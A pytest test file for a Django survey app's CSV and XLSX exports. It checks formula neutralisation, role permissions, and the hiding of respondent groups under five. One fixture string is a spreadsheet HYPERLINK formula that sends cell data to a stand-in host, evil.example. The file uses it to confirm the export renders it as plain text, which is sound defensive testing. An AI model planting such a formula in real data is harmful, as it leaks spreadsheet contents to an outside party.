"""Downloads of every response, as CSV and XLSX, safe to open in a spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts import roles
from pages.spreadsheets import neutralise_formula
from privacy import small_groups
from tests.surveys.test_results import add_response
from voice.moderation.models import ModeratedText
from voice.surveys import selectors

INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+44 7700 900000", "'+44 7700 900000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("A plain answer", "A plain answer"),
        ("It was = to last time", "It was = to last time"),
        (-3, -3),
        (None, None),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_made_plain(value, expected):
    assert neutralise_formula(value) == expected


@pytest.fixture
def answered(survey):
    add_response(
        survey,
        speaker="young_person",
        age="14_15",
        emoji_scale=4,
        yes_no=1,
        rating=7,
        one_choice="Home",
        several_choices=["Sport", "Trips"],
        short_text=INJECTED,
        long_text="Not approved yet",
    )
    add_response(survey, yes_no=0)
    ModeratedText.objects.filter(text=INJECTED).update(
        status=ModeratedText.Status.APPROVED
    )
    return survey


@pytest.mark.django_db
def test_csv_export_has_every_response_with_formulas_neutralised(
    client, answered, people
):
    client.force_login(people[roles.SERVICE_MANAGER])
    response = client.get(reverse("survey_admin:export_csv", args=[answered.pk]))
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    header, first, second = rows[0], rows[1], rows[2]
    assert len(rows) == 3
    assert header[3:6] == ["Who answered", "Age", "How was today?"]
    record = dict(zip(header, first))
    assert record["How was today?"] == "4"
    assert record["Did you feel safe?"] == "Yes"
    assert record["What would you like more of?"] == "Sport; Trips"
    assert record["One good thing?"] == "'" + INJECTED
    assert record["What should we change?"] == "[waiting for a moderator]"
    # One young person and one who did not say: too few to say who answered.
    assert record["Who answered"] == "[fewer than 5: not shown]"
    assert record["Age"] == "[fewer than 5: not shown]"
    assert dict(zip(header, second))["Did you feel safe?"] == "No"
    assert "young" not in body.lower().replace("a young person", "")  # no usernames


@pytest.mark.django_db
def test_xlsx_export_holds_the_injected_formula_as_text(client, answered, people):
    client.force_login(people[roles.SERVICE_MANAGER])
    response = client.get(reverse("survey_admin:export_xlsx", args=[answered.pk]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 3
    header = rows[0]
    record = dict(zip(header, rows[1]))
    assert record["One good thing?"] == "'" + INJECTED
    cell = sheet.cell(row=2, column=header.index("One good thing?") + 1)
    assert cell.data_type == "s"  # a string, not a formula
    assert record["How was today?"] == 4


@pytest.mark.django_db
@pytest.mark.parametrize(
    "role", [roles.YOUNG_PERSON, roles.MODERATOR, roles.CASE_WORKER]
)
def test_people_without_the_results_permission_cannot_download(
    client, answered, people, role
):
    client.force_login(people[role])
    assert (
        client.get(reverse("survey_admin:export_csv", args=[answered.pk])).status_code
        == 403
    )
    assert (
        client.get(reverse("survey_admin:results", args=[answered.pk])).status_code
        == 403
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    "role", [roles.SERVICE_MANAGER, roles.PROGRAMME_STAFF, roles.ADMINISTRATOR]
)
def test_service_managers_programme_staff_and_administrators_see_results(
    client, answered, people, role
):
    client.force_login(people[role])
    assert people[role].has_perm("surveys.view_results")
    assert (
        client.get(reverse("survey_admin:results", args=[answered.pk])).status_code
        == 200
    )
    staff_home = client.get("/staff/").content.decode()
    assert "Survey results" in staff_home


def exported_groups(client, survey, user) -> list[tuple[str, str]]:
    client.force_login(user)
    response = client.get(reverse("survey_admin:export_csv", args=[survey.pk]))
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    return [(row["Who answered"], row["Age"]) for row in rows]


@pytest.mark.django_db
def test_the_export_never_says_who_answered_for_a_group_the_results_page_hides(
    client, survey, people
):
    for _ in range(6):
        add_response(survey, speaker="young_person", age="14_15", yes_no=1)
    for _ in range(5):
        add_response(survey, speaker="young_person", age="16_17", yes_no=1)
    for _ in range(2):
        add_response(survey, speaker="parent_carer", age="18_plus", yes_no=0)

    groups = exported_groups(client, survey, people[roles.SERVICE_MANAGER])

    not_shown = "[fewer than 5: not shown]"
    assert ("A parent or carer", "18 or older") not in groups
    assert not any("parent" in who for who, _age in groups)
    # The two parents alone would stand out as the only hidden rows, so the
    # smallest group shown beside them (five 16 to 17 year olds) is hidden too.
    assert groups.count((not_shown, not_shown)) == 7
    assert groups.count(("A young person", "14 to 15")) == 6


@pytest.mark.django_db
def test_the_export_hides_an_age_that_would_single_someone_out_but_keeps_who_answered(
    client, survey, people
):
    for _ in range(5):
        add_response(survey, speaker="young_person", age="14_15", yes_no=1)
    for age in ("10_13", "16_17", "16_17", "18_plus", "10_13"):
        add_response(survey, speaker="young_person", age=age, yes_no=1)

    groups = exported_groups(client, survey, people[roles.SERVICE_MANAGER])

    assert groups.count(("A young person", "14 to 15")) == 5
    assert groups.count(("A young person", "[fewer than 5: not shown]")) == 5


def exported_answers(client, survey, user, question: str) -> list[tuple[str, str]]:
    client.force_login(user)
    response = client.get(reverse("survey_admin:export_csv", args=[survey.pk]))
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [
        (row["Who answered"], row[question])
        for row in csv.DictReader(io.StringIO(body))
    ]


@pytest.mark.django_db
def test_the_export_hides_a_groups_answers_to_a_question_the_results_page_hides(
    client, survey, people
):
    # Six young people and five parents: both groups are shown. Only two young
    # people and six parents answered "How was today?", so the results page
    # hides the young people's answers to it.
    for rating in (1, 2, None, None, None, None):
        answers = (
            {"yes_no": 1} if rating is None else {"yes_no": 1, "emoji_scale": rating}
        )
        add_response(survey, speaker="young_person", age="14_15", **answers)
    for _ in range(5):
        add_response(
            survey, speaker="parent_carer", age="18_plus", yes_no=0, emoji_scale=5
        )
    manager = people[roles.SERVICE_MANAGER]

    client.force_login(manager)
    page = client.get(
        reverse("survey_admin:results", args=[survey.pk])
    ).content.decode()
    assert "Fewer than 5: not shown" in page

    rows = exported_answers(client, survey, manager, "How was today?")
    not_shown = "[fewer than 5: not shown]"
    young = [answer for who, answer in rows if who == "A young person"]
    # Two hidden answers alone could be worked out from the question's totals,
    # so the parents' answers to it (the smallest group shown) are hidden too.
    assert young == [not_shown, not_shown, "", "", "", ""]
    assert [answer for who, answer in rows if who == "A parent or carer"] == [
        not_shown
    ] * 5
    assert "1" not in young and "2" not in young
    # Answers to a question both groups answered in numbers stay.
    assert [
        a for _w, a in exported_answers(client, survey, manager, "Did you feel safe?")
    ] == (["Yes"] * 6 + ["No"] * 5)


def export_records(client, survey, user, kind: str) -> list[dict]:
    """The export's rows as dicts, read from the CSV or the XLSX file."""
    client.force_login(user)
    response = client.get(reverse(f"survey_admin:export_{kind}", args=[survey.pk]))
    if kind == "csv":
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(body)))
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


NOT_SHOWN = "[fewer than 5: not shown]"


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("column", "small_group", "big_group", "shown_value"),
    [
        (
            "Who answered",
            {"speaker": "parent_carer", "age": "18_plus"},
            {"speaker": "young_person", "age": "14_15"},
            "A parent or carer",
        ),
        (
            "Age",
            {"speaker": "young_person", "age": "16_17"},
            {"speaker": "young_person", "age": "14_15"},
            "16 to 17",
        ),
    ],
)
def test_a_group_under_five_is_hidden_in_every_breakdown_of_both_exports(
    client, survey, people, kind, column, small_group, big_group, shown_value
):
    for _ in range(8):
        add_response(survey, yes_no=1, **big_group)
    for _ in range(4):
        add_response(survey, yes_no=0, **small_group)

    records = export_records(client, survey, people[roles.SERVICE_MANAGER], kind)

    values = [record[column] for record in records]
    assert shown_value not in values
    assert values.count(NOT_SHOWN) >= 4
    # Four hidden rows alone could be told apart, so more are hidden beside them.
    assert values.count(NOT_SHOWN) >= 5


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_groups_answers_under_five_are_hidden_in_both_exports(
    client, survey, people, kind
):
    for rating in (1, 2, None, None, None, None):
        answers = (
            {"yes_no": 1} if rating is None else {"yes_no": 1, "emoji_scale": rating}
        )
        add_response(survey, speaker="young_person", age="14_15", **answers)
    for _ in range(5):
        add_response(
            survey, speaker="parent_carer", age="18_plus", yes_no=0, emoji_scale=5
        )

    records = export_records(client, survey, people[roles.SERVICE_MANAGER], kind)

    young = [
        r["How was today?"] for r in records if r["Who answered"] == "A young person"
    ]
    assert young.count(NOT_SHOWN) == 2
    assert 1 not in young and 2 not in young and "1" not in young


@pytest.mark.django_db
def test_the_exports_hide_groups_by_the_one_rule_in_privacy_small_groups(
    client, survey, people, monkeypatch
):
    """No second copy of "hide the next smallest group": the export asks small_groups."""
    asked = []

    def spy(counts, total):
        asked.append(dict(counts))
        return small_groups.groups_to_hide(counts, total)

    monkeypatch.setattr(selectors, "groups_to_hide", spy)
    for _ in range(6):
        add_response(survey, speaker="young_person", age="14_15", yes_no=1)
    for _ in range(5):
        add_response(survey, speaker="young_person", age="16_17", yes_no=1)
    for _ in range(2):
        add_response(survey, speaker="parent_carer", age="18_plus", yes_no=0)

    groups = exported_groups(client, survey, people[roles.SERVICE_MANAGER])

    assert groups.count((NOT_SHOWN, NOT_SHOWN)) == 7
    # Once for who answered and age, and once for the answers to the question.
    assert len(asked) >= 2
